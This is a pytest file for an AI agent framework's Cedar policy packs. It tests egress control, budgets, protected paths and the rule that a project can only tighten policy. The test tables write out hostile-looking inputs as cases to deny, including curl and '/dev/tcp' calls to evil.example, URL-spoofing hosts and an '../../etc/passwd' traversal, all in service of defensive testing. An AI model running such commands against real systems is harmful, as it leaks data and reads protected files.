"""Packs: what is in use, what is refused, and what a project may not do."""

import sys

import pytest

from hookline.errors import Blocked
from hookline.hooks import Decision, hookimpl
from hookline.policy import Policy, PolicyError, load_pack, shipped_packs, strictest
from hookline.policy.meter import Meter
from hookline.policy.pack import schema_faults
from hookline.runtime.app import Hookline
from hookline.specs import PackSpec

from ..tables import each_row
from .conftest import write_pack

FORBID = "forbid (principal, action, resource);"


def action(**changes):
    made = {
        "tool": "shell", "name": "shell", "namespace": "", "side_effects": "external", "arguments": {},
        "permissions": [], "session_id": "s", "agent_id": "main", "depth": 0, "source": "model",
        "channel": "terminal", "user": "ada", "workspace": "/work/x", "authorized": None,
    }  # fmt: skip
    return {**made, **changes}


async def decided(policy, **changes):
    return strictest(await policy.explain(action(**changes)))


def test_the_shipped_packs_are_whole_and_fit_the_schema():
    assert shipped_packs() == [
        "budgets", "destructive-shell", "network-egress", "protected-paths", "read-only",
    ]  # fmt: skip
    for name in shipped_packs():
        (pack,) = Policy.load({"packs": [name]}).packs
        assert schema_faults(pack.rules, pack.schema) == []
        assert all(rule.reason for rule in pack.rules)


async def test_without_configuration_no_pack_is_in_use():
    assert Policy.load({}).packs == []


async def test_a_rule_asks_where_it_is_annotated_so_and_the_strictest_wins(tmp_path):
    cedar = (
        '@id("a") @decision("ask") @reason("sure?") forbid (principal, action, resource);\n'
        '@id("b") forbid (principal, action, resource) when { context.arguments.path == "x" };'
    )
    policy = Policy(default="allow", packs=[load_pack(write_pack(tmp_path / "p", cedar))])
    assert await decided(policy, arguments={"path": "y"}) is Decision.ASK
    assert await decided(policy, arguments={"path": "x"}) is Decision.DENY


async def test_a_rule_that_cannot_be_evaluated_denies_and_is_named(tmp_path):
    cedar = '@id("a") forbid (principal, action, resource) when { context.arguments.path like "x" };'
    policy = Policy(default="allow", packs=[load_pack(write_pack(tmp_path / "p", cedar))])
    steps = await policy.explain(action(arguments={}))
    assert strictest(steps) is Decision.DENY
    assert steps[-1].by == "mine/a"
    assert "cannot be evaluated" in steps[-1].reason


async def test_a_rule_about_who_and_what_holds_for_each_agent_and_tool_on_its_own(tmp_path):
    cedar = (
        '@id("z") forbid (principal, action, resource) when { context.source == "model" };'
        '@id("eve") forbid (principal, action, resource) when { principal in User::"eve" };'
        '@id("deep") @decision("ask") forbid (principal, action, resource)'
        "when { principal.depth > 1 };"
        '@id("place") forbid (principal, action, resource) when { context.workspace like "/prod/*" };'
        '@id("root") forbid (principal, action, resource)'
        'when { context.permissions.contains("root") };'
        '@id("put") forbid (principal, action == Action::"write", resource == Tool::"put");'
        '@id("a") forbid (principal, action, resource) when { resource.missing };'
    )
    policy = Policy(default="allow", packs=[load_pack(write_pack(tmp_path / "p", cedar))])

    async def objecting(**changes):
        return [step.by.removeprefix("mine/") for step in await policy.explain(action(**changes))][1:]

    for _ in range(2):  # what was asked before is no other agent's or tool's
        assert await objecting(source="command") == ["a"]  # what cannot be evaluated denies, too
        assert await objecting() == ["z", "a"]
    sound = cedar.rpartition('@id("a")')[0]
    policy = Policy(default="allow", packs=[load_pack(write_pack(tmp_path / "q", sound))])
    for _ in range(2):
        assert await objecting(source="command") == []
        assert await objecting(user="eve") == ["z", "eve"]
        assert await objecting(source="command", user="eve", depth=2) == ["eve", "deep"]
        assert await objecting(source="command", tool="put") == []
        assert await objecting(source="command", workspace="/prod/x") == ["place"]
        assert await objecting(source="command", permissions=["root"]) == ["root"]
        assert await objecting(tool="put", side_effects="write") == ["z", "put"]


async def test_rules_that_do_not_look_at_the_call_judge_it_too(tmp_path):
    cedar = 'forbid (principal, action, resource) when { principal in Channel::"web" };'
    policy = Policy(default="allow", packs=[load_pack(write_pack(tmp_path / "p", cedar))])
    assert await decided(policy, channel="web") is Decision.DENY
    assert await decided(policy) is Decision.ALLOW


@pytest.mark.parametrize(
    "arguments",
    [
        {"path": "\ud800"},
        {"path": 1.5, "n": None, "big": 2**80},
        {"path": {"__entity": {"type": "Tool", "id": "x"}}},
        {"path": {"__extn": {"fn": "ip", "arg": "x"}}},
        {"__entity": {"type": "a", "id": "b"}},
    ],
)
async def test_no_argument_gets_past_a_rule_by_its_form(tmp_path, arguments):
    cedar = "forbid (principal, action, resource) when { context.arguments has missing || true };"
    policy = Policy(default="allow", packs=[load_pack(write_pack(tmp_path / "p", cedar))])
    assert await decided(policy, arguments=arguments) is Decision.DENY


async def test_rules_know_user_channel_depth_namespace_and_effect(tmp_path):
    cedar = (
        'forbid (principal in User::"eve", action, resource);'
        'forbid (principal in Channel::"telegram", action == Action::"write", resource);'
        'forbid (principal, action, resource in Namespace::"acme") when { principal.depth > 1 };'
    )
    policy = Policy(default="allow", packs=[load_pack(write_pack(tmp_path / "p", cedar))])
    assert await decided(policy) is Decision.ALLOW
    assert await decided(policy, user="eve") is Decision.DENY
    assert await decided(policy, channel="telegram") is Decision.ALLOW
    assert await decided(policy, channel="telegram", side_effects="write") is Decision.DENY
    assert await decided(policy, namespace="acme", depth=1) is Decision.ALLOW
    assert await decided(policy, namespace="acme", depth=2) is Decision.DENY


@each_row(
    ("command", "expected"),
    [
        ("curl https://packages.example/simple", "allow"),
        ("curl https://evil.example", "deny"),
        ("curl https://packages.example@evil.example/", "deny"),
        ("curl 'https://evil.example\\@packages.example'", "deny"),
        ("curl https://packages.example.evil.example", "deny"),
        ("curl https://packages.example https://evil.example", "deny"),
        ("curl evil.example", "deny"),
        ("curl $URL", "deny"),
        ("echo x > /dev/tcp/evil.example/80", "deny"),
        ("git push", "deny"),
        ("git status", "allow"),
        ("ls -la", "allow"),
        ("python3 -c 'import urllib'", "ask"),
    ],
)
async def test_only_named_hosts_are_reached(command, expected):
    policy = Policy.load(
        {"default": "allow", "packs": ["network-egress"], "network": {"allow": ["packages.example"]}}
    )
    assert (await decided(policy, arguments={"command": command})).name.lower() == expected


async def test_without_a_list_no_host_is_reached_and_a_project_opens_none():
    policy = Policy.load(
        {"default": "allow", "packs": ["network-egress"]}, {"network": {"allow": ["*"]}}
    )
    found = await decided(policy, tool="fetch_url", arguments={"url": "https://a.example"})
    assert found is Decision.DENY


async def test_budgets_count_what_is_on_the_tape():
    class Kept:
        def __init__(self, name, kind, payload, meta, time):
            self.id, self.kind, self.payload, self.meta, self.time = name, kind, payload, meta, time

    usage = {"input_tokens": 70, "output_tokens": 20, "cost": 0.5}
    tape = [
        Kept("1", "turn", {"status": "started"}, {}, 10.0),
        Kept("2", "message", {}, {"usage": usage}, 11.0),
        Kept("3", "tool_call", {}, {}, 12.0),
        Kept("4", "turn", {"status": "completed"}, {}, 15.0),
    ]

    async def read(session_id, after):
        return [entry for entry in tape if after is None or entry.id > after]

    meter = Meter(read)
    spent = {"calls": 1, "tokens": 90, "cost": 500_000, "seconds": 5}
    assert await meter.spent("s") == spent
    assert await meter.spent("s") == spent  # nothing is counted twice
    for budget, expected in [
        ({"calls": 2, "tokens": 91, "cost": 0.6, "seconds": 6}, "ALLOW"),
        ({"calls": 1}, "DENY"),
        ({"tokens": 90}, "DENY"),
        ({"cost": 0.5}, "DENY"),
        ({"seconds": 5}, "DENY"),
    ]:
        said = {"default": "allow", "packs": ["budgets"], "budgets": budget}
        policy = Policy.load(said, spending=meter.spent)
        assert (await decided(policy)).name == expected, budget


async def test_a_budget_of_calls_holds_in_a_running_app(app, scripted):
    from hookline.models.script import Call, Turn

    said = {"default": "allow", "packs": ["budgets"], "budgets": {"calls": 2}}

    async def read(session_id, after):
        return await app.store().entries(
            session_id, kinds=["message", "tool_call", "turn"], after=after
        )

    app.runner.judge = Policy.load(said, spending=Meter(read).spent).judge
    scripted(Turn(tool_calls=[Call("list_files")] * 4), "done")
    async with app.running():
        result = await app.process({"content": "go"})
        entries = await app.store().entries(result.session_id, kinds=["tool_result"])
    assert [entry.payload["ran"] for entry in entries].count(True) == 2


@pytest.mark.parametrize(
    ("budgets", "told"),
    [
        ("tokens = 10", "the budget of tokens is used up"),
        ("seconds = 0", "the budget of time is used up"),
        ("cost = 0.0", "the budget of cost is used up"),
        ("calls = 0", None),
        ("tokens = 100_000", None),
    ],
)
async def test_a_session_that_used_up_its_budget_asks_no_model(app, scripted, budgets, told):
    app.given_policy = None  # the configuration says it
    app.home.mkdir(exist_ok=True)
    (app.home / "config.toml").write_text(
        f'[policy]\ndefault = "allow"\npacks = ["budgets"]\n[policy.budgets]\n{budgets}\n'
    )
    app.config.reload()
    scripted("one", "two", repeat=True)
    async with app.running():
        if told is None or "tokens" in told:
            await app.process({"content": "some words to count"})
            tape = await app.tape("default:default")
            usage = {"input_tokens": 20, "output_tokens": 1}
            message = {"role": "assistant", "content": "long"}
            await tape.append("message", {"message": message}, meta={"usage": usage})
        if told is None:
            await app.process({"content": "go on"})
        else:
            with pytest.raises(Blocked, match=told):
                await app.process({"content": "go on"})


async def test_without_the_pack_a_budget_stops_no_model(app, scripted):
    app.given_policy = None
    app.home.mkdir(exist_ok=True)
    (app.home / "config.toml").write_text("[policy.budgets]\ntokens = 0\n")
    app.config.reload()
    scripted("one")
    async with app.running():
        await app.process({"content": "go"})


async def test_where_nobody_can_tell_what_was_spent_no_model_is_asked(app, scripted):
    app.given_policy = Policy.load({"packs": ["budgets"], "budgets": {"tokens": 5}})
    scripted("one")
    async with app.running():
        with pytest.raises(Blocked, match="nobody counts it"):
            await app.process({"content": "go"})


async def test_a_project_can_tighten_and_not_loosen(tmp_path):
    strict = {"default": "ask", "floor": {"deny": {"tools": ["shell"]}}, "budgets": {"calls": 5}}
    loose = {"default": "allow", "floor": {"deny": {"tools": ["other"]}}, "budgets": {"calls": 50}}
    policy = Policy.load(strict, loose)
    assert policy.default == "ask"
    assert policy.budget == {"calls": 5}
    assert "only be stricter" in policy.notes[0]
    assert await decided(policy) is Decision.DENY
    assert await decided(policy, tool="other") is Decision.DENY
    assert Policy.load({}, {"default": "deny"}).default == "deny"


async def test_the_floor_takes_a_file_of_its_own(tmp_path):
    (tmp_path / "floor.cedar").write_text('@id("x") forbid (principal, action, resource);')
    policy = Policy.load({"default": "allow", "floor": {"cedar": "floor.cedar"}}, home=tmp_path)
    steps = await policy.explain(action())
    assert (steps[-1].stage, steps[-1].by) == ("floor", "floor/x")


@each_row(
    ("rules", "arguments", "expected"),
    [
        ({"commands": ["git push *"]}, {"command": "git push origin"}, "DENY"),
        ({"commands": ["git push *"]}, {"command": "git  'push' origin"}, "DENY"),
        ({"commands": ["git push *"]}, {"command": "git pull"}, "ALLOW"),
        ({"commands": ["git push *"]}, {"command": "$X push origin"}, "DENY"),
        ({"commands": ["git push *"]}, {"command": "git $X origin"}, "DENY"),
        ({"paths": ["/etc/**"]}, {"path": "../../etc/passwd"}, "DENY"),
        ({"paths": ["/etc/**"]}, {"path": "etc/passwd"}, "ALLOW"),
        ({"paths": ["*.pem"]}, {"path": "deep/in/a.PEM"}, "DENY"),
        ({"paths": ["vendor/**"]}, {"command": "touch vendor/x"}, "DENY"),
        ({"paths": ["vendor/**"]}, {"command": "touch $F"}, "DENY"),
        ({"namespaces": ["acme*"]}, {}, "ALLOW"),
        ({"effects": ["external"]}, {}, "DENY"),
    ],
)
async def test_the_floor_matches_what_a_call_does(rules, arguments, expected):
    policy = Policy.load({"default": "allow", "floor": {"deny": rules}})
    assert (await decided(policy, arguments=arguments)).name == expected


# --- bad input -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cedar", "told"),
    [
        (f"{FORBID}\n\nforbid (principal, actin, resource);", "rules.cedar:3: not a policy"),
        (f'{FORBID}\n// ;\nforbid (principal, action) when {{ "a;" }}', "rules.cedar:3: the policy"),
        ("permit (principal, action, resource);", "rules.cedar:1: a policy can only forbid"),
        (f'@decision("aks") {FORBID}', "did you mean 'ask'?"),
        (f'@id("a") {FORBID}\n@id("a") {FORBID}', "rules.cedar:2: the id 'a' is taken"),
        ("forbid (principal == ?principal, action, resource);", "templates"),
    ],
)
def test_a_broken_policy_is_told_with_file_and_line(tmp_path, cedar, told):
    with pytest.raises(PolicyError) as error:
        load_pack(write_pack(tmp_path / "p", cedar))
    assert told in str(error.value)


@pytest.mark.parametrize(
    ("manifest", "told"),
    [
        ("id = 1", "id must be a text, got 1"),
        ('id = "a"', "version is missing"),
        ('id = "a"\nversion = "1"\nrequire = []', "unknown field 'require'; did you mean 'requires'?"),
        ("id = ", "not TOML"),
        ('id = "floor"\nversion = "1"', "'floor' cannot be a pack's id"),
    ],
)
def test_a_wrong_manifest_is_told(tmp_path, manifest, told):
    with pytest.raises(PolicyError) as error:
        load_pack(write_pack(tmp_path / "p", FORBID, manifest))
    assert told in str(error.value)


def test_an_unknown_pack_is_told_with_the_nearest():
    with pytest.raises(PolicyError, match="did you mean 'protected-paths'"):
        Policy.load({"packs": ["protected-path"]})


def test_a_pack_that_vanished_stops_everything(tmp_path):
    with pytest.raises(PolicyError, match="manifest cannot be read"):
        Policy.load({"packs": ["./gone"]}, home=tmp_path)


@pytest.mark.parametrize(
    ("requires", "told"),
    [
        ("hookline>=99", "and hookline is version"),
        ("other>=1", "the pack 'other' is not in use"),
        ("read-only>=2", "and read-only is version 1.0.0"),
        ("!!", "not a requirement"),
    ],
)
def test_a_requirement_that_is_not_met_is_told(tmp_path, requires, told):
    manifest = f'id = "mine"\nversion = "1"\nrequires = ["{requires}"]'
    folder = write_pack(tmp_path / "p", FORBID, manifest)
    with pytest.raises(PolicyError) as error:
        Policy.load({"packs": [str(folder), "read-only"]})
    assert told in str(error.value)


def test_two_packs_of_one_id_are_refused(tmp_path):
    one, two = write_pack(tmp_path / "a", FORBID), write_pack(tmp_path / "b", FORBID)
    with pytest.raises(PolicyError, match="two packs have the id 'mine'"):
        Policy.load({"packs": [str(one), str(two)]})


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ({"default": "maybe"}, "policy.default"),
        ({"packs": "read-only"}, "policy.packs"),
        ({"floor": {"deny": {"effects": ["big"]}}}, "policy.floor.deny.effects"),
        ({"flor": {}}, "unknown setting policy.flor; did you mean 'floor'?"),
        ({"floor": {"deny": {"path": []}}}, "policy.floor.deny.path; did you mean 'paths'"),
        ({"budgets": {"calls": -1}}, "policy.budgets.calls"),
        ({"floor": {"cedar": "gone.cedar"}}, "gone.cedar: the policies cannot be read"),
    ],
)
def test_a_wrong_setting_is_named(said, told, tmp_path):
    with pytest.raises(PolicyError) as error:
        Policy.load(said, home=tmp_path)
    assert told in str(error.value)


# --- packs of plugins ------------------------------------------------------------------------------


async def test_a_plugins_pack_is_in_use_from_its_registration(tmp_path, scripted):
    folder = write_pack(tmp_path / "p", f'@id("no") {FORBID}')

    class Careful:
        @hookimpl
        def register_packs(self):
            return [PackSpec(id="mine", version="1.0", manifest_path=folder / "pack.toml")]

    app = Hookline(home=tmp_path / "home", workspace=tmp_path)
    app.load_hooks(packages=False)
    app.hooks.add(Careful(), name="careful")
    assert [pack.id for pack in app.policy.packs] == ["mine"]
    assert await decided(app.policy, side_effects="read") is Decision.DENY


def test_a_plugin_whose_pack_is_another_than_it_says_is_refused(tmp_path):
    folder = write_pack(tmp_path / "p", FORBID)
    spec = PackSpec(id="mine", version="2.0", manifest_path=folder / "pack.toml")
    with pytest.raises(PolicyError, match=r"its manifest says mine 1\.0"):
        Policy.load({}, registered=[spec])


def test_without_the_engine_a_configured_pack_stops_everything(monkeypatch):
    monkeypatch.setitem(sys.modules, "cedarpy", None)  # as if it were not installed
    assert Policy.load({"floor": {"deny": {"tools": ["shell"]}}}).packs == []
    with pytest.raises(PolicyError, match=r"pip install 'hookline\[policy\]'"):
        Policy.load({"packs": ["read-only"]})
